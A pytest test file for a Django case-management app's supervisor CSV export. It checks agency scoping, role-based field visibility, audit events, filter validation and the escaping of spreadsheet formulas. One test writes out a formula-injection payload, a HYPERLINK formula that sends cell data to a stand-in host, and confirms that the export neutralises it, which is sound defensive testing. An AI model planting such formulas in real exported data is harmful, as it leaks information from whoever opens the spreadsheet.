"""The case list as a streamed CSV: for supervisors, scoped by the access gate, the person
fields each role may read, hostile names neutralised, one audit event per export."""

import csv
import io
from collections.abc import Callable

import pytest
from django.conf import settings
from django.http import StreamingHttpResponse
from django.test import Client

from amparo.accounts.domain.users import create_staff_user
from amparo.accounts.enums import Role
from amparo.accounts.models import Agency, User
from amparo.people.models import Case
from amparo.protection.enums import AuditAction
from amparo.protection.models import AuditEvent
from tests.conftest import PASSWORD, make_case

URL = "/caseload/cases.csv"


def _rows(client: Client, url: str = URL) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)  # streamed, never built whole
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def gt_supervisor(reference: None) -> User:
    return create_staff_user(
        "gaby.gt",
        password=PASSWORD,
        memberships=[(Agency.objects.get(code="gt-oim"), Role.SUPERVISOR)],
        language="es",
    )


def test_the_supervisor_exports_her_agencys_cases_with_every_field_and_one_event(
    login: Callable[[User], Client], mx_supervisor: User, mx_case: Case, gt_case: Case
) -> None:
    rows = _rows(login(mx_supervisor))
    assert [r["reference"] for r in rows] == [mx_case.reference]
    row = rows[0]
    assert row["given_names"] == "Xiomarafake"
    assert row["phone"] == "'+52 55 0000 1111"  # a leading + is neutralised too
    assert row["birth_date"] == "1990-05-17"
    assert "HX1234567" in row["documents"]
    assert row["agency"] == "mx-oim"
    assert row["country"] == "MX"
    event = AuditEvent.objects.get(action=AuditAction.CASES_EXPORTED)
    assert event.actor_id == mx_supervisor.pk
    assert event.payload == {"rows": 1, "format": "csv"}


def test_an_outsider_supervisor_sees_none_of_the_other_countrys_cases(
    login: Callable[[User], Client], gt_supervisor: User, mx_case: Case, gt_case: Case
) -> None:
    client = login(gt_supervisor)
    response = client.get(URL)
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    assert "Xiomarafake" not in body
    assert mx_case.reference not in body
    assert [r["reference"] for r in csv.DictReader(io.StringIO(body))] == [gt_case.reference]


def test_a_supervisor_with_no_case_gets_only_the_header(
    login: Callable[[User], Client], gt_supervisor: User, mx_case: Case
) -> None:
    assert _rows(login(gt_supervisor)) == []
    assert AuditEvent.objects.get(action=AuditAction.CASES_EXPORTED).payload["rows"] == 0


def test_caseworkers_focal_points_and_analysts_get_404(
    login: Callable[[User], Client], mx_caseworker: User, mx_case: Case
) -> None:
    focal = create_staff_user(
        "fidel.mx",
        password=PASSWORD,
        memberships=[(Agency.objects.get(code="mx-oim"), Role.FOCAL_POINT)],
        language="es",
    )
    for user in (mx_caseworker, focal):
        assert login(user).get(URL).status_code == 404
    assert not AuditEvent.objects.filter(action=AuditAction.CASES_EXPORTED).exists()


def test_fields_follow_the_role_at_each_cases_agency(
    login: Callable[[User], Client], mx_case: Case, reference: None
) -> None:
    """Supervisor in Guatemala, front-line officer in Mexico: the Mexican case she opened is
    exported with what a front-line officer reads (names, not phone, birth date, documents)."""
    both = create_staff_user(
        "doble.gt",
        password=PASSWORD,
        memberships=[
            (Agency.objects.get(code="gt-oim"), Role.SUPERVISOR),
            (Agency.objects.get(code="mx-oim"), Role.FRONT_LINE_OFFICER),
        ],
        language="es",
    )
    own_gt = make_case(actor=both, agency_code="gt-oim", given="Gtfake", surname="Synth", doc="G1")
    own_mx = make_case(actor=both, agency_code="mx-oim", given="Mxfake", surname="Synth", doc="M1")
    rows = {r["reference"]: r for r in _rows(login(both))}
    assert set(rows) == {own_gt.reference, own_mx.reference}  # not the other Mexican case
    assert rows[own_gt.reference]["phone"] == "'+52 55 0000 1111"
    assert "G1" in rows[own_gt.reference]["documents"]
    mexican = rows[own_mx.reference]
    assert mexican["given_names"] == "Mxfake"
    assert (mexican["phone"], mexican["birth_date"], mexican["documents"]) == ("", "", "")


def test_hostile_names_are_neutralised(
    login: Callable[[User], Client], mx_supervisor: User, mx_caseworker: User
) -> None:
    make_case(
        actor=mx_caseworker,
        agency_code="mx-oim",
        given='=HYPERLINK("http://x/?"&A1,"click")',
        surname="+SUM(A1:A9)",
    )
    response = login(mx_supervisor).get(URL)
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["given_names"] == '\'=HYPERLINK("http://x/?"&A1,"click")'
    assert row["first_surname"] == "'+SUM(A1:A9)"


def test_filters_narrow_the_export_and_are_audited(
    login: Callable[[User], Client], mx_supervisor: User, mx_case: Case
) -> None:
    client = login(mx_supervisor)
    assert _rows(client, URL + "?status=closed") == []
    assert len(_rows(client, URL + "?status=identified&opened_from=2000-01-01")) == 1
    payloads = [e.payload for e in AuditEvent.objects.filter(action=AuditAction.CASES_EXPORTED)]
    assert {"rows": 0, "format": "csv", "status": "closed"} in payloads
    assert {"rows": 1, "format": "csv", "status": "identified", "opened_from": "2000-01-01"} in (
        payloads
    )


def test_a_bad_filter_is_refused_naming_the_field(
    login: Callable[[User], Client], mx_supervisor: User, mx_case: Case
) -> None:
    client = login(mx_supervisor)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    for query, field in (("status=lost", "status"), ("opened_to=2026-13-01", "opened_to")):
        response = client.get(f"{URL}?{query}")
        assert response.status_code == 400
        assert response.content.decode().startswith(f"{field}:")
    assert not AuditEvent.objects.filter(action=AuditAction.CASES_EXPORTED).exists()


def test_the_caseload_links_the_export_for_supervisors_only(
    login: Callable[[User], Client], mx_supervisor: User, mx_caseworker: User
) -> None:
    assert URL in login(mx_supervisor).get("/caseload/").content.decode()
    assert URL not in login(mx_caseworker).get("/caseload/").content.decode()
